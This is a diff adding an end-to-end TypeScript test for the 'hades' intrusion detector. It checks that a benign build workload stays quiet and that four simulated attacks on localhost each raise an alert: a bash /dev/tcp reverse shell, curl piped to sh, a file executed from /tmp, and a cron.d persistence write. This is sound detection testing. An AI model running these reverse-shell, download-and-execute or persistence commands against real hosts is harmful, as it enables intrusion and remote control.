@@ -1,0 +1,179 @@
+/**
+ * Detection end to end, as root with the real driver: `hades start` runs the server (with the
+ * default rule pack) and a local agent; attacks done for real on this host each produce their
+ * alert through `hades alerts list --json`:
+ * - a reverse shell to a local listener (bash with /dev/tcp);
+ * - curl piped to sh from a local HTTP server;
+ * - a file dropped in /tmp and executed;
+ * - a cron persistence write (/etc/cron.d).
+ * Before them, a benign workload (compiling C, git clone, npm ci, apt-get operations) must raise
+ * no high or critical alert.
+ */
+import assert from 'node:assert/strict';
+import { spawn, spawnSync } from 'node:child_process';
+import { chmodSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { createServer as createHttpServer } from 'node:http';
+import { createServer as createTcpServer, type AddressInfo, type Socket } from 'node:net';
+import { tmpdir } from 'node:os';
+import path from 'node:path';
+import { after, before, describe, it } from 'node:test';
+import { waitFor } from '../helpers/agent.js';
+import { projectRoot } from '../helpers/generated-docs.js';
+
+const root = process.getuid?.() === 0;
+const dir = mkdtempSync(path.join(tmpdir(), 'hades-detect-'));
+const hades = (...args: string[]) => spawnSync(process.execPath, [`${projectRoot}bin/hades.js`, ...args], { cwd: projectRoot, encoding: 'utf8', timeout: 30_000 });
+
+interface AlertLine {
+  id: string;
+  '@timestamp': string;
+  rule: { id: string; title: string; severity: string };
+  host: { name: string };
+  message: string;
+  process?: Record<string, unknown>;
+}
+
+describe('detection end to end (root, real driver, default rule pack)', { skip: root ? false : 'needs root' }, () => {
+  let child: ReturnType<typeof spawn> | undefined;
+  let exited: Promise<number | null> | undefined;
+  let stderr = '';
+  let serverConfig = '';
+  const cronFile = `/etc/cron.d/hades-e2e-${process.pid}`;
+
+  /** Alerts since `since` (ISO) as NDJSON through the CLI. */
+  const alerts = (since: string): AlertLine[] => {
+    const result = hades('alerts', 'list', '--json', '--since', since, '--limit', '10000', '--config', serverConfig);
+    assert.equal(result.status, 0, result.stderr);
+    return result.stdout
+      .split('\n')
+      .filter(Boolean)
+      .map((l) => JSON.parse(l) as AlertLine);
+  };
+  /** The full alert (with its events) through the API, via `hades alerts list` then the id. */
+  const waitForAlert = (what: string, since: string, test: (alert: AlertLine) => boolean) =>
+    waitFor(what, () => alerts(since).find(test), 30_000, 500);
+  const mentions = (alert: AlertLine, text: string) => JSON.stringify(alert).includes(text);
+
+  before(async () => {
+    child = spawn(process.execPath, [`${projectRoot}bin/hades.js`, 'start', '--data', dir, '--api', '127.0.0.1:0', '--gateway', '127.0.0.1:0'], { cwd: projectRoot, stdio: ['ignore', 'pipe', 'pipe'] });
+    let stdout = '';
+    child.stdout!.setEncoding('utf8').on('data', (d: string) => (stdout += d));
+    child.stderr!.setEncoding('utf8').on('data', (d: string) => (stderr += d));
+    exited = new Promise((resolve) => child!.on('close', (code) => resolve(code)));
+    const api = await waitFor('the start banner', () => /API:\s+(https:\/\/\S+)/.exec(stdout)?.[1], 60_000, 100);
+    serverConfig = path.join(dir, 'server.yaml');
+    writeFileSync(serverConfig, `data_dir: ${path.join(dir, 'server')}\nlisten: { api: "${api.replace('https://', '')}" }\n`);
+    await waitFor(
+      'the local agent online',
+      () => {
+        const listed = hades('agents', 'list', '--json', '--config', serverConfig);
+        return listed.status === 0 && listed.stdout.includes('"online":true');
+      },
+      60_000,
+      250,
+    );
+  });
+
+  after(async () => {
+    rmSync(cronFile, { force: true });
+    if (child) {
+      child.kill('SIGINT');
+      assert.equal(await exited, 0, stderr);
+    }
+    rmSync(dir, { recursive: true, force: true });
+  });
+
+  it('a benign workload (compiling C, git clone, npm ci, apt-get) raises no high or critical alert', async () => {
+    const since = new Date().toISOString();
+    const work = path.join(dir, 'benign');
+    mkdirSync(work, { recursive: true });
+    const run = (command: string, args: string[], cwd = work) => {
+      const result = spawnSync(command, args, { cwd, encoding: 'utf8', timeout: 240_000, env: { ...process.env, npm_config_audit: 'false', npm_config_fund: 'false', npm_config_update_notifier: 'false' } });
+      assert.equal(result.status, 0, `${command} ${args.join(' ')}: ${result.stderr}`);
+    };
+    writeFileSync(path.join(work, 'hello.c'), '#include <stdio.h>\nint main(void) { puts("hello"); return 0; }\n');
+    run('cc', ['-O2', '-o', 'hello', 'hello.c']);
+    run(path.join(work, 'hello'), []);
+    writeFileSync(path.join(work, 'Makefile'), 'all: hello2\nhello2: hello.c\n\tcc -o hello2 hello.c\n');
+    run('make', []);
+    run('git', ['clone', '--quiet', '--depth', '1', `file://${projectRoot}`, path.join(work, 'clone')]);
+    const pkg = path.join(work, 'pkg');
+    mkdirSync(pkg);
+    // A package with one small dependency, installed from the npm registry with its lockfile.
+    writeFileSync(path.join(pkg, 'package.json'), JSON.stringify({ name: 'benign', version: '1.0.0', private: true, dependencies: { 'fastest-levenshtein': '1.0.16' } }));
+    run('npm', ['install', '--package-lock-only', '--ignore-scripts', '--no-audit', '--no-fund'], pkg);
+    run('npm', ['ci', '--no-audit', '--no-fund'], pkg);
+    run('apt-get', ['check']);
+    run('apt-get', ['-s', 'install', '--reinstall', 'coreutils']);
+    run('dpkg', ['-l', 'coreutils']);
+    // Give the pipeline time to deliver what the workload did.
+    await new Promise((resolve) => setTimeout(resolve, 5000));
+    const loud = alerts(since).filter((a) => a.rule.severity === 'high' || a.rule.severity === 'critical');
+    assert.deepEqual(
+      loud.map((a) => `${a.rule.id}: ${a.message}`),
+      [],
+      'no high or critical alert from a benign workload',
+    );
+  });
+
+  it('a reverse shell to a local listener raises an alert', async () => {
+    const since = new Date().toISOString();
+    const sockets = new Set<Socket>();
+    const listener = createTcpServer((socket) => {
+      sockets.add(socket);
+      socket.on('error', () => undefined);
+      socket.end('exit\n');
+    });
+    await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
+    const port = (listener.address() as AddressInfo).port;
+    try {
+      spawnSync('/bin/bash', ['-c', `bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1`], { timeout: 10_000, stdio: 'ignore' });
+      const alert = await waitForAlert('a reverse shell alert', since, (a) => mentions(a, `/dev/tcp/127.0.0.1/${port}`));
+      assert.ok(['high', 'critical'].includes(alert.rule.severity), `${alert.rule.id} is ${alert.rule.severity}`);
+    } finally {
+      for (const socket of sockets) socket.destroy();
+      await new Promise((resolve) => listener.close(resolve));
+    }
+  });
+
+  it('curl piped to sh from a local HTTP server raises an alert', async () => {
+    const since = new Date().toISOString();
+    const marker = `hades-e2e-payload-${process.pid}`;
+    const http = createHttpServer((_request, response) => response.end(`echo ${marker}\n`));
+    await new Promise<void>((resolve) => http.listen(0, '127.0.0.1', resolve));
+    const port = (http.address() as AddressInfo).port;
+    try {
+      const result = spawnSync('/bin/sh', ['-c', `curl -fsS http://127.0.0.1:${port}/install.sh | sh`], { encoding: 'utf8', timeout: 10_000 });
+      assert.match(result.stdout, new RegExp(marker));
+      const alert = await waitForAlert('a download-and-execute alert', since, (a) => mentions(a, `127.0.0.1:${port}/install.sh`));
+      assert.ok(['medium', 'high', 'critical'].includes(alert.rule.severity), `${alert.rule.id} is ${alert.rule.severity}`);
+    } finally {
+      http.closeAllConnections();
+      await new Promise((resolve) => http.close(resolve));
+    }
+  });
+
+  it('a file dropped in /tmp and executed raises an alert', async () => {
+    const since = new Date().toISOString();
+    const dropped = `/tmp/hades-e2e-drop-${process.pid}`;
+    try {
+      writeFileSync(dropped, '#!/bin/sh\nexit 0\n');
+      chmodSync(dropped, 0o755);
+      spawnSync(dropped, [], { timeout: 10_000 });
+      await waitForAlert('an alert for the executed /tmp file', since, (a) => mentions(a, dropped));
+    } finally {
+      rmSync(dropped, { force: true });
+    }
+  });
+
+  it('a cron persistence write raises an alert', async () => {
+    const since = new Date().toISOString();
+    writeFileSync(cronFile, '* * * * * root /bin/true\n');
+    try {
+      const alert = await waitForAlert('a cron persistence alert', since, (a) => mentions(a, cronFile));
+      assert.ok(alert.rule.id.length > 0);
+    } finally {
+      rmSync(cronFile, { force: true });
+    }
+  });
+});
